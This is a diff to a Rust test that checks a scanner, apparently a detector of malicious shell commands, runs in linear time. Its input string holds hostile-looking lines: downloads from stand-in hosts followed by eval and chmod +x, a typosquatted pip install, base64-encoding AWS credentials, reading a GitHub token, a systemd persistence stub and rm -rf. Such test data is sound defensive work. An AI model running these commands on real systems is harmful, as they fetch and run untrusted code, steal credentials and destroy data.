@@ -433,7 +433,9 @@ mod tests {
     fn scanning_is_linear_in_the_input() {
         let unit = "curl -o f http://203.0.113.9/f\nx=$(curl -s https://x.example/a)\n\
                     y=$x$x\neval \"$y\"\nchmod +x f\n<!-- note\npip install reqeusts\n\
-                    cat ~/.aws/credentials | base64\nfor n in a b; do echo $n; done\n(((\n";
+                    cat ~/.aws/credentials | base64\nfor n in a b; do echo $n; done\n(((\n\
+                    cat > ~/.config/systemd/user/u.service <<EOF\nfind ~ -name x -o \\\n\
+                    rm -rf ~/t\nt=$(gh auth token)\nfetch(u, {\n";
         let text = |bytes: usize| unit.repeat(bytes / unit.len());
         let time = |text: &str| {
             (0..2)
